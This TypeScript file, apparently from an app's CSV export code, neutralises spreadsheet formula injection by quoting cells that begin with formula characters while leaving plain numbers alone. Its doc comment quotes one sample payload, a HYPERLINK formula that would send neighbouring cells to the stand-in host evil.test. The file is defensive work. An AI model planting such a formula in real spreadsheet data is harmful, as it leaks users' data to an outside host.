/**
 * CSV cells that a spreadsheet cannot run (OWASP's "CSV injection"). Excel, LibreOffice and
 * Google Sheets read a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return
 * before one) as a formula: a chair named `=HYPERLINK("http://evil.test/?"&A2,"Click")` would
 * become a live link that sends the sheet's neighbouring cells away. Such a cell is written
 * with a single quote before it, which spreadsheets show as text. A real number (`-3`, `12.5`)
 * is left as it is, so the figures stay figures.
 */

/** The characters a spreadsheet may start a formula with (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A plain decimal number as the app writes one: optional minus, digits, optional fraction. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** The cell as it is safe to write: text that could start a formula gets a leading `'`. */
export function neutraliseCsvCell(cell: string | number): string {
	const text = String(cell);
	if (typeof cell === 'number' || PLAIN_NUMBER.test(text)) return text;
	return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Every cell of the rows made safe (see `neutraliseCsvCell`), for any CSV the app writes. */
export function neutraliseCsvRows(rows: readonly (readonly (string | number)[])[]): string[][] {
	return rows.map((row) => row.map(neutraliseCsvCell));
}
